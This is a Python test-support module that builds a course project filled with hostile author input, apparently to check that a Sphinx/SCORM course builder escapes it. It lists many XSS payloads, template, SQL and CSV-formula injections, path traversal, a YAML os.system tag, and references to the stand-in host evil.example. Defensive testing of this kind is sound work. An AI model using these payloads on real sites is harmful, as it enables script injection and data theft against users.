"""Text that would run a script, or break what stands around it, where it is taken for markup.

Every payload is one line, since headings, options and values in front matter are. ``RUN`` stands
for a statement that leaves a trace, which ``RAN`` finds.
"""

# ruff: noqa: RUF001 - characters that look like others are what some payloads are about

from __future__ import annotations

import json
from pathlib import Path

_RUN = "top.__ran=1"

_TAGS = """
<script>RUN</script>
<SCRIPT>RUN</SCRIPT>
<ScRiPt >RUN</sCrIpT >
<script/x>RUN</script>
<script src=https://evil.example/a.js></script>
<script src="data:text/javascript,RUN"></script>
<script type=module>RUN</script>
<scr<script>ipt>RUN</scr</script>ipt>
<<script>RUN//<</script>
<script>RUN
</script><script>RUN</script>
</title><script>RUN</script>
</style><script>RUN</script>
</textarea><script>RUN</script>
</noscript><script>RUN</script>
</template><script>RUN</script>
</form></div></section></article><script>RUN</script>
--><script>RUN</script>
--!><script>RUN</script>
]]><script>RUN</script>
<![CDATA[<script>RUN</script>]]>
<?xml version="1.0"?><script>RUN</script>
<!DOCTYPE html><script>RUN</script>
<!ENTITY x "<script>RUN</script>">
<!-- <script>RUN</script> -->text
<!--><script>RUN</script>
<!--<img src="--><img src=x onerror=RUN>">
<xmp><img src=x onerror=RUN></xmp>
<noscript><p title="</noscript><img src=x onerror=RUN>">
<template><script>RUN</script></template>
<base href="javascript:RUN//">
<base href=https://evil.example/>
<meta http-equiv=refresh content="0;url=javascript:RUN">
<meta http-equiv=refresh content="0;url=https://evil.example/">
<link rel=stylesheet href=https://evil.example/a.css>
<style>@import "https://evil.example/a.css";</style>
<style>body{background:url(https://evil.example/a.png)}</style>
<style>*{display:none!important}</style>
<iframe src="javascript:RUN"></iframe>
<iframe srcdoc="<script>RUN</script>"></iframe>
<iframe src="data:text/html,<script>RUN</script>"></iframe>
<object data="javascript:RUN"></object>
<object data="data:text/html,<script>RUN</script>"></object>
<embed src="javascript:RUN">
<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'/>">
<frameset onload=RUN></frameset>
<applet code="javascript:RUN"></applet>
<form action="javascript:RUN"><button>go</button></form>
<form><button formaction="javascript:RUN">go</button></form>
<isindex type=image src=1 onerror=RUN>
<plaintext>
<textarea autofocus onfocus=RUN>
<title>
"""

_HANDLERS = """
<img src=x onerror=RUN>
<img src=x onerror="RUN">
<img src=x onerror='RUN'>
<img src=x onerror=`RUN`>
<img/src=x/onerror=RUN>
<img src=x:x onerror=RUN//
<img src="x" onerror = RUN >
<IMG SRC=x ONERROR=RUN>
<img src=x onerror=&#116;op.__ran=1>
<img src=https://evil.example/pixel.png>
<img srcset="https://evil.example/pixel.png 1x">
<image src=x onerror=RUN>
<body onload=RUN>
<body onpageshow=RUN>
<input autofocus onfocus=RUN>
<select autofocus onfocus=RUN><option>a</option></select>
<button autofocus onfocus=RUN>b</button>
<details open ontoggle=RUN>x</details>
<video src=x onerror=RUN></video>
<video poster=https://evil.example/p.png></video>
<video><source onerror=RUN></video>
<audio src=x onerror=RUN></audio>
<marquee onstart=RUN>x</marquee>
<div style="animation:x 1s" onanimationstart=RUN>x</div>
<div style="width:1px" ontransitionend=RUN>x</div>
<div onpointerenter=RUN style="position:fixed;inset:0">x</div>
<p contenteditable autofocus onfocus=RUN>x</p>
<a href=https://evil.example/ ping=https://evil.example/>x</a>
<a href="javascript:RUN" autofocus onfocus=RUN>x</a>
<a href="&#106;avascript:RUN">x</a>
<a href="java&Tab;script:RUN">x</a>
<a href="java&NewLine;script:RUN">x</a>
<x-element onclick=RUN tabindex=1 autofocus onfocus=RUN>x</x-element>
"><img src=x onerror=RUN>
'><img src=x onerror=RUN>
"onmouseover="RUN" x="
' onfocus='RUN' autofocus='
" autofocus onfocus=RUN "
` onerror=RUN `
"""

_FOREIGN = """
<svg onload=RUN>
<svg/onload=RUN>
<svg><script>RUN</script></svg>
<svg><script href="data:text/javascript,RUN"/></svg>
<svg><style><img src=x onerror=RUN></style></svg>
<svg><a href="javascript:RUN"><text>x</text></a></svg>
<svg><a xlink:href="javascript:RUN"><text>x</text></a></svg>
<svg><animate onbegin=RUN attributeName=x dur=1s>
<svg><set attributeName=onload to=RUN></svg>
<svg><use href="data:image/svg+xml,<svg id='x' onload='RUN'/>#x"/></svg>
<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>
<svg><title><img src=x onerror=RUN></title></svg>
<svg><desc><![CDATA[</desc><script>RUN</script>]]></svg>
<math href="javascript:RUN">x</math>
<math><mtext><img src=x onerror=RUN></mtext></math>
<math><maction actiontype="statusline" xlink:href="javascript:RUN">x</maction></math>
<math><annotation-xml encoding="text/html"><img src=x onerror=RUN></annotation-xml></math>
<math><mi><mglyph><style><img src=x onerror=RUN></style></mglyph></mi></math>
"""

_LANGUAGES = r"""
{{ 7*7 }}{{ constructor.constructor('RUN')() }}
{% raw %}<script>RUN</script>{% endraw %}
{{ "<script>RUN</script>" | safe }}
{# comment #}<img src=x onerror=RUN>
${RUN}
`${RUN}`
#{RUN}
<%= RUN %>
<?php echo "<script>RUN</script>"; ?>
[[RUN]]
");RUN//
');RUN//
\");RUN//
\\";RUN;//
"};RUN;({"
\u003cscript\u003eRUN\u003c/script\u003e
\x3cscript\x3eRUN\x3c/script\x3e
%3Cscript%3ERUN%3C/script%3E
&lt;script&gt;RUN&lt;/script&gt;
&amp;lt;script&amp;gt;RUN&amp;lt;/script&amp;gt;
&#60;script&#62;RUN&#60;/script&#62;
&#x3c;img src=x onerror=RUN&#x3e;
&#0000060img src=x onerror=RUN>
&LT;img src=x onerror=RUN&GT;
&bogus;&amp&<&>&#xD800;&#0;
=cmd|' /C calc'!A0
@SUM(1+1)*cmd|' /C calc'!A0
' OR 1=1 --
%s%s%s%n%d{0}{x}
../../../../etc/passwd
key: [value, {other: "x"}] # comment
--- !!python/object/apply:os.system ["true"]
*alias &anchor !tag |
> not feedback <img src=x onerror=RUN>
:points: 99 <img src=x onerror=RUN>
"""

_UNICODE = """
＜script＞RUN＜/script＞
\u2060<script>RUN</script>\u00ad
\ufeff<script>RUN</script>
<\u200bscript>RUN</script>
\u202e>tpircs/<NUR>tpircs<
<img src=x\u00a0onerror=RUN>
<ſcript>RUN</ſcript>
<ımg src=x onerror=RUN>
ẞ İ ǆ ﬁ 😀 👩\u200d👩\u200d👧 e\u0301 \U0010fffd <b>
ʼ\u02ba\uff02><img src=x onerror=RUN>
مرحبا <script>RUN</script> \u2067abc\u2069
"""

_MARKDOWN = r"""
**bold <script>RUN</script>**
`<script>RUN</script>`
``<img src=x onerror=RUN>``
\<script\>RUN\</script\>
*<img src=x onerror=RUN>*
~~<img src=x onerror=RUN>~~
[x](https://example.com/"onmouseover="RUN)
[x](https://example.com/ "onmouseover=RUN autofocus")
[x](https://example.com/ '"><img src=x onerror=RUN>')
[<img src=x onerror=RUN>](https://example.com/)
[x](<https://example.com/"><script>RUN</script>>)
[a]: javascript:RUN
[x](javascript:RUN)
[x](JaVaScRiPt:RUN)
[x](data:text/html,<script>RUN</script>)
![x](javascript:RUN)
<https://example.com/"onmouseover=RUN>
<javascript:RUN>
<data:text/html,<script>RUN</script>>
$x^{<img src=x onerror=RUN>}$
$\text{</annotation></math><script>RUN</script>}$
$\text{"><svg onload=RUN>}$
{abbr}`x (<img src=x onerror=RUN>)`
{kbd}`<script>RUN</script>`
{math}`<script>RUN</script>`
{sub}`<img src=x onerror=RUN>`
"""

_GROUPS = (_TAGS, _HANDLERS, _FOREIGN, _LANGUAGES, _UNICODE, _MARKDOWN)

#: The payloads. A course may hold them: where :func:`write_course` puts them, they must do no harm.
PAYLOADS = [
    line.replace("RUN", _RUN) for group in _GROUPS for line in group.split("\n") if line
] + [
    "<b>" * 40,
    "<div>" * 30 + f"<script>{_RUN}</script>",
    "A" * 150 + f"<img src=x onerror={_RUN}>",
    "<" * 100,
    '"' * 100,
]

#: Whether a payload ran, as an expression of the browser.
RAN = "top.__ran !== undefined"


def write_course(folder: Path) -> None:
    """Write the sources of a course that has every payload in every place an author writes to.

    The questions ``choice-N``, ``number-N`` and ``text-N`` belong to payload N, which is also the
    heading above them. Page ``page-N`` has the payloads from N on (``PAGE``), and the first of them
    as its title. The decks show all questions.
    """
    _write(folder / "conf.py", _CONF.format(payloads=PAYLOADS))
    _write(folder / "docs" / "favicon.svg", '<svg xmlns="http://www.w3.org/2000/svg"/>')
    pages = {first: f"page-{first}" for first in range(0, len(PAYLOADS), PAGE)}
    captions = list(dict.fromkeys(" ".join(payload.split()) for payload in PAYLOADS))[::_MODULE]
    modules = [
        _MODULE_SOURCE.format(
            number=number,
            caption=_quoted(caption),
            pages="\n".join(pages[it] for it in pages if it // _MODULE == number),
        )
        for number, caption in enumerate(captions)
    ]
    _write(folder / "docs" / "index.md", "\n".join(["# Contents", *modules]))
    for first, name in pages.items():
        source = _PAGE.format(quoted=_quoted(PAYLOADS[first]))
        for number, payload in enumerate(PAYLOADS[first : first + PAGE], first):
            level = "#" if number == first else "##"
            source += _SECTION.format(
                level=level, number=number, payload=payload, quoted=_quoted(payload)
            )
        _write(folder / "docs" / f"{name}.md", source)
    for first in range(0, len(PAYLOADS), _MODULE):
        slides = [
            f"## {payload}\n\n```{{question-ref}} choice-{number}\n```\n"
            for number, payload in enumerate(PAYLOADS[first : first + _MODULE], first)
        ]
        head = f"---\nkind: slides\nduration: 1\nlesson: docs/page-{first}\n---\n\n"
        deck = f"{head}# {PAYLOADS[first]}\n\n" + "\n".join(slides)
        _write(folder / "docs" / "slides" / f"deck-{first}.md", deck)
    _write(folder / "docs" / "slides" / "index.md", "# Decks\n\n```{toctree}\n:glob:\n\n*\n```\n")


def _write(path: Path, text: str) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, "utf-8")


def _quoted(text: str) -> str:
    """The text as YAML."""
    return json.dumps(text, ensure_ascii=False)


#: Payloads on each page.
PAGE = 4

#: Payloads in each module and in each deck.
_MODULE = 12

_CONF = """
project = "Hostile"
language = "en"
extensions = ["myst_parser", "nbsphinx", "sphinx_revealjs", "scorm.sphinxext"]
nitpicky = True
scorm_course = {{
    "identifier": "hostile",
    "title": {payloads!r}[0],
    "description": "\\n".join({payloads!r}),
    "author": {payloads!r}[1],
    "date": "2026-11-22",
    "language": "en",
    "version": {payloads!r}[2],
    "keywords": {payloads!r},
    "mastery_score": 50,
}}
if tags.has("slides"):
    root_doc = "index"
else:
    root_doc = "docs/index"
    include_patterns = ["docs/**.md"]
    exclude_patterns = ["docs/slides"]
html_theme = "furo"
html_favicon = "docs/favicon.svg"
html_copy_source = False
html_show_sourcelink = False
html_math_renderer = "mathml"
html_sidebars = {{"**": ["sidebar/search.html", "scorm/contents.html"]}}
myst_enable_extensions = ["colon_fence", "deflist", "dollarmath"]
revealjs_style_theme = "scorm/deck.css"
"""

_MODULE_SOURCE = """
```{{toctree}}
:name: module-{number}
:caption: {caption}

{pages}
```
"""

_PAGE = """---
kind: lesson
duration: 1
objectives:
  see: {quoted}
---
"""

_SECTION = """
{level} {payload}

Before.

`````{{question}} choice-{number}
:kind: multiple
:objective: see
:hint: {quoted}
:explanation: {quoted}
:answer-link: "https://vote.example/"
:answer-key: {quoted}

{payload}

- [x] {payload}
  > {payload}
- [ ] {payload} (another)
  > {payload}
`````

`````{{question}} number-{number}
:kind: numeric
:unit: {quoted}

How many?

- [x] 42
  > {payload}
`````

`````{{question}} text-{number}
:kind: text

What is it?

- [x] {payload}
  > {payload}
`````

After.
"""
